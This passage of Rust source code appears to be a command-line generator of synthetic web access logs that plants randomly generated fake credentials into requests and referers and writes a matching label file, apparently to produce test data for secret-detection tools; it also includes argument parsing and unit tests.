    req.referer.put(referer);
}

/// Plants one credential (two for an access key pair) into the request or its referer, and
/// labels it.
fn plant(
    rng: &mut Rng,
    clock: &Clock,
    referer_ok: bool,
    req: &mut Request,
    labels: &mut Vec<Label>,
) {
    let kind = rng.weighted(KIND_MIX);
    if kind == Kind::UrlUserinfo {
        let password = credential(rng, clock, kind);
        let user = alternative(rng, "deploy|admin|svc_backup|ci-bot|reports");
        let scheme = alternative(rng, "https|https|http");
        if !referer_ok || rng.chance(0.5) {
            let host = alternative(rng, "www.example.com|api.example.com");
            let path = rng.pick(kind.endpoints());
            set_target(
                rng,
                req,
                &format!("{scheme}://{user}:{password}@{host}{path}"),
            );
        } else {
            set_referer(
                req,
                &format!("{scheme}://{user}:{password}@staging.example.com/admin/"),
            );
        }
        labels.push(Label {
            kind,
            place: Place::Userinfo,
            encoding: Encoding::Plain,
            param: "-",
            secret: password,
        });
        return;
    }
    if kind == Kind::SlackWebhook && referer_ok && rng.chance(0.2) {
        // The bare webhook URL as the referer.
        let url = credential(rng, clock, kind);
        set_referer(req, &url);
        labels.push(Label {
            kind,
            place: Place::Referer,
            encoding: Encoding::Plain,
            param: "-",
            secret: url,
        });
        return;
    }
    let params = credential_params(rng, clock, kind);
    let roll = rng.below(100);
    let (place, encoding) = if kind.in_paths() && roll < 15 {
        let (before, after) = rng.pick(&[
            ("/api/v1/tokens/", "/verify"),
            ("/hooks/", ""),
            ("/t/", "/events"),
            ("/download/", "/report.csv"),
            ("/api/v1/sessions/", ""),
            ("/integrations/", "/callback?source=settings"),
        ]);
        set_target(rng, req, &format!("{before}{}{after}", params[0].value));
        (Place::Path, Encoding::Plain)
    } else {
        let encoding = choose_encoding(rng, &params);
        let planted = encode_params(rng, &params, encoding);
        let path = rng.pick(kind.endpoints());
        let query = query_with(rng, clock, planted);
        if referer_ok && roll >= 72 {
            let host = alternative(
                rng,
                "www.example.com|app.example.com|admin.example.com|partner.example.net",
            );
            set_referer(req, &format!("https://{host}{path}?{query}"));
            (Place::Referer, encoding)
        } else {
            set_target(rng, req, &format!("{path}?{query}"));
            (Place::Query, encoding)
        }
    };
    for p in params {
        if let Some(kind) = p.kind {
            // An access key id next to an encoded secret key looks the same encoded or not.
            let encoding = match encoding {
                Encoding::Percent | Encoding::Double if pct(&p.value) == p.value => Encoding::Plain,
                _ => encoding,
            };
            labels.push(Label {
                kind,
                place,
                encoding,
                param: if place == Place::Path { "-" } else { p.name },
                secret: p.value,
            });
        }
    }
}

/// The whole generator: site, clock, interleaved sessions and the line being built.
struct Generator {
    rng: Rng,
    site: Site,
    clock: Clock,
    sessions: Vec<Session>,
    req: Request,
    format: Format,
    secret_rate: f64,
    /// A credential is due on the next line that can carry one.
    plant_pending: bool,
    /// The last generated line, with its newline.
    line: Vec<u8>,
    /// Credentials planted in the last generated line.
    labels: Vec<Label>,
}

impl Generator {
    fn new(seed: u64, format: Format, secret_rate: f64) -> Generator {
        let mut rng = Rng::new(seed);
        let site = Site::new(&mut rng);
        let sessions = (0..48)
            .map(|_| {
                let mut s = Session {
                    class: Class::Browser,
                    client: 0,
                    left: 0,
                    pending: 0,
                    page: Vec::with_capacity(256),
                };
                s.start(&mut rng, &site);
                s
            })
            .collect();
        Generator {
            rng,
            site,
            clock: Clock::new(),
            sessions,
            req: Request {
                method: "GET",
                target: Vec::with_capacity(1024),
                raw: false,
                proto: "HTTP/1.1",
                status: 200,
                size: 0,
                referer: Vec::with_capacity(1024),
            },
            format,
            secret_rate,
            plant_pending: false,
            line: Vec::with_capacity(4096),
            labels: Vec::new(),
        }
    }

    /// Generates the next line into `self.line` and its planted credentials into `self.labels`.
    fn next_line(&mut self) {
        let Generator {
            rng,
            site,
            clock,
            sessions,
            req,
            format,
            secret_rate,
            plant_pending,
            line,
            labels,
        } = self;
        clock.tick(rng);
        labels.clear();
        req.reset();
        let index = rng.below(sessions.len());
        let session = &mut sessions[index];
        let client = &site.clients[session.class as usize][session.client];
        match session.class {
            Class::Browser => {
                req.proto = if rng.chance(0.7) {
                    "HTTP/2.0"
                } else {
                    "HTTP/1.1"
                };
                if session.pending > 0 {
                    session.pending -= 1;
                    if rng.chance(0.75) {
                        site.asset(rng, clock, req);
                    } else {
                        site.call(rng, clock, req, PAGE_CALLS);
                    }
                    req.referer.extend_from_slice(&session.page);
                } else {
                    let campaign = if !session.page.is_empty() {
                        req.referer.extend_from_slice(&session.page);
                        0.0
                    } else if rng.chance(0.35) {
                        0.12
                    } else {
                        site.external_referer(rng, clock, req);
                        0.35
                    };
                    site.page(rng, clock, req, campaign);
                    session.page.clear();
                    session.page.put(SITE_URL);
                    session.page.extend_from_slice(&req.target);
                    session.left -= 1;
                    if req.status == 200 && req.method == "GET" && rng.chance(0.64) {
                        let u = rng.unit();
                        session.pending = (u * u * 30.0) as u32;
                    }
                }
            }
            Class::Bot => {
                session.left -= 1;
                site.crawl(rng, clock, req);
            }
            Class::Api => {
                session.left -= 1;
                req.proto = if rng.chance(0.5) {
                    "HTTP/2.0"
                } else {
                    "HTTP/1.1"
                };
                site.call(rng, clock, req, API_CALLS);
            }
            Class::Monitor => {
                session.left -= 1;
                site.health_check(rng, &client.ua, req);
            }
            Class::Scanner => {
                session.left -= 1;
                site.probe(rng, req);
            }
        }
        // A credential drawn on a health check or scanner line waits for the next line of
        // someone who could have leaked it; only browsers send referers.
        *plant_pending |= rng.chance(*secret_rate);
        if *plant_pending && matches!(session.class, Class::Browser | Class::Api | Class::Bot) {
            *plant_pending = false;
            let referer_ok = *format != Format::Common && session.class == Class::Browser;
            plant(rng, clock, referer_ok, req, labels);
        }
        write_line(line, *format, clock, client, session.class, req);
        if session.left == 0 && session.pending == 0 {
            session.start(rng, site);
        }
    }
}

/// Writes one log line in `format` into `line`.
fn write_line(
    line: &mut Vec<u8>,
    format: Format,
    clock: &Clock,
    client: &Client,
    class: Class,
    req: &Request,
) {
    line.clear();
    if format == Format::VhostCombined {
        line.put(match class {
            Class::Api => "api.example.com:443 ",
            Class::Monitor => "www.example.com:80 ",
            _ => "www.example.com:443 ",
        });
    }
    line.put(&client.ip);
    line.put(" - ");
    line.put(client.user);
    line.put(" [");
    line.extend_from_slice(&clock.stamp);
    line.put("] \"");
    if !req.raw {
        line.put(req.method);
        line.push(b' ');
    }
    line.extend_from_slice(&req.target);
    if !req.raw {
        line.push(b' ');
        line.put(req.proto);
    }
    line.put("\" ");
    line.num(u64::from(req.status));
    line.push(b' ');
    match format {
        // nginx `$body_bytes_sent`.
        Format::Combined => line.num(req.size),
        // Apache `%b`: `-` for no body.
        Format::Common if req.size == 0 => line.push(b'-'),
        Format::Common => line.num(req.size),
        // Apache `%O`: bytes sent, headers included.
        Format::VhostCombined => {
            line.num(req.size + 180 + (req.size + u64::from(req.status)) % 320)
        }
    }
    if format != Format::Common {
        line.put(" \"");
        if req.referer.is_empty() {
            line.push(b'-');
        } else {
            line.extend_from_slice(&req.referer);
        }
        line.put("\" \"");
        // Nothing after a garbled request line was parsed, so no user agent either.
        line.put(if req.raw { "-" } else { &client.ua });
        line.push(b'"');
    }
    line.push(b'\n');
}

/// Parsed command line.
struct Options {
    size: u64,
    seed: u64,
    format: Format,
    secret_rate: f64,
    labels: Option<String>,
}

/// Parses `1000`, `500K`, `100M`, `1G`, `1.5G`, `512Ki`, `64Mi`, `1Gi` (a trailing `B` is allowed).
fn parse_size(s: &str) -> Option<u64> {
    let split = s
        .find(|c: char| !(c.is_ascii_digit() || c == '.'))
        .unwrap_or(s.len());
    let (number, unit) = s.split_at(split);
    let unit = unit.strip_suffix('B').unwrap_or(unit);
    let multiplier: u64 = match unit {
        "" => 1,
        "K" | "k" => 1_000,
        "M" => 1_000_000,
        "G" => 1_000_000_000,
        "T" => 1_000_000_000_000,
        "Ki" => 1 << 10,
        "Mi" => 1 << 20,
        "Gi" => 1 << 30,
        "Ti" => 1 << 40,
        _ => return None,
    };
    if number.contains('.') {
        let x: f64 = number.parse().ok()?;
        (x >= 0.0).then_some((x * multiplier as f64) as u64)
    } else {
        number.parse::<u64>().ok()?.checked_mul(multiplier)
    }
}

/// Parses the arguments; `Ok(None)` means help was asked for.
fn parse_args(mut args: impl Iterator<Item = String>) -> Result<Option<Options>, String> {
    let mut size = None;
    let mut opts = Options {
        size: 0,
        seed: 1,
        format: Format::Combined,
        secret_rate: 0.0001,
        labels: None,
    };
    while let Some(arg) = args.next() {
        let (flag, inline) = match arg.split_once('=') {
            Some((f, v)) if f.starts_with("--") => (f.to_string(), Some(v.to_string())),
            _ => (arg, None),
        };
        if flag == "-h" || flag == "--help" {
            return Ok(None);
        }
        let value = match inline.or_else(|| args.next()) {
            Some(v) => v,
            None => return Err(format!("{flag} needs a value")),
        };
        match flag.as_str() {
            "--size" => {
                size = Some(parse_size(&value).ok_or_else(|| format!("bad size {value:?}"))?)
            }
            "--seed" => opts.seed = value.parse().map_err(|_| format!("bad seed {value:?}"))?,
            "--format" => {
                opts.format = match value.as_str() {
                    "combined" => Format::Combined,
                    "common" => Format::Common,
                    "vhost_combined" => Format::VhostCombined,
                    _ => return Err(format!("unknown format {value:?}")),
                }
            }
            "--secret-rate" => {
                opts.secret_rate = match value.parse::<f64>() {
                    Ok(r) if (0.0..=1.0).contains(&r) => r,
                    _ => return Err(format!("bad secret rate {value:?} (want 0..1)")),
                }
            }
            "--labels" => opts.labels = Some(value),
            _ => return Err(format!("unknown option {flag:?}")),
        }
    }
    opts.size = size.ok_or("--size is required")?;
    Ok(Some(opts))
}

fn run(opts: &Options) -> io::Result<()> {
    let mut out = BufWriter::with_capacity(1 << 20, io::stdout().lock());
    let mut labels = match &opts.labels {
        Some(path) => Some(BufWriter::new(File::create(path).map_err(|e| {
            io::Error::new(e.kind(), format!("cannot create {path}: {e}"))
        })?)),
        None => None,
    };
    let mut generator = Generator::new(opts.seed, opts.format, opts.secret_rate);
    let (mut written, mut line_no) = (0u64, 0u64);
    loop {
        generator.next_line();
        let len = generator.line.len() as u64;
        if written + len > opts.size {
            break;
        }
        out.write_all(&generator.line)?;
        written += len;
        line_no += 1;
        if let Some(labels) = labels.as_mut() {
            for l in &generator.labels {
                writeln!(
                    labels,
                    "{line_no}\t{}\t{}\t{}\t{}\t{}",
                    l.kind.name(),
                    l.place.name(),
                    l.encoding.name(),
                    l.param,
                    l.secret
                )?;
            }
        }
    }
    out.flush()?;
    if let Some(mut labels) = labels {
        labels.flush()?;
    }
    Ok(())
}

fn main() -> ExitCode {
    let opts = match parse_args(env::args().skip(1)) {
        Ok(Some(opts)) => opts,
        Ok(None) => {
            println!("{USAGE}");
            return ExitCode::SUCCESS;
        }
        Err(e) => {
            eprintln!("genlog: {e}\n{USAGE}");
            return ExitCode::from(2);
        }
    };
    match run(&opts) {
        Ok(()) => ExitCode::SUCCESS,
        // `genlog ... | head` is fine.
        Err(e) if e.kind() == io::ErrorKind::BrokenPipe => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("genlog: {e}");
            ExitCode::FAILURE
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn checksums_and_encodings_match_their_standards() {
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(base64(b"foobar", B64STD, true), "Zm9vYmFy");
        assert_eq!(base64(b"fo", B64STD, true), "Zm8=");
        assert_eq!(base64(&[0xfb, 0xff], B64URL, false), "-_8");
        assert_eq!(pct("a/b+c d~"), "a%2Fb%2Bc%20d~");
    }

    #[test]
    fn sizes_parse() {
        assert_eq!(parse_size("1G"), Some(1_000_000_000));
        assert_eq!(parse_size("512Mi"), Some(512 << 20));
        assert_eq!(parse_size("1.5K"), Some(1500));
        assert_eq!(parse_size("77"), Some(77));
        assert_eq!(parse_size("1X"), None);
    }

    #[test]
    fn every_template_expands() {
        let mut rng = Rng::new(1);
        let site = Site::new(&mut rng);
        let clock = Clock::new();
        let templates = PAGE_VIEWS
            .iter()
            .chain(CAMPAIGNS)
            .chain(EXTERNAL_REFERERS)
            .map(|&(_, t)| t)
            .chain(ASSETS.iter().map(|&(_, (t, _, _))| t))
            .chain(PAGE_CALLS.iter().chain(API_CALLS).map(|&(_, (_, t))| t));
        for template in templates {
            let mut out = Vec::new();
            site.expand(&mut rng, &clock, template, &mut out);
            assert!(!out.contains(&b'{') && !out.contains(&b' '), "{template}");
        }
    }

    #[test]
    fn same_seed_same_lines_and_labels_point_at_their_secrets() {
        let mut a = Generator::new(9, Format::Combined, 0.2);
        let mut b = Generator::new(9, Format::Combined, 0.2);
        for _ in 0..5000 {
            a.next_line();
            b.next_line();
            assert_eq!(a.line, b.line);
            let line = String::from_utf8_lossy(&a.line);
            for label in &a.labels {
                let shown = match label.encoding {
                    Encoding::Plain => label.secret.clone(),
                    Encoding::Percent => pct(&label.secret),
                    Encoding::Double | Encoding::Nested => pct(&pct(&label.secret)),
                };
                assert!(line.contains(&shown), "{} not in {line}", label.secret);
            }
        }
    }
}
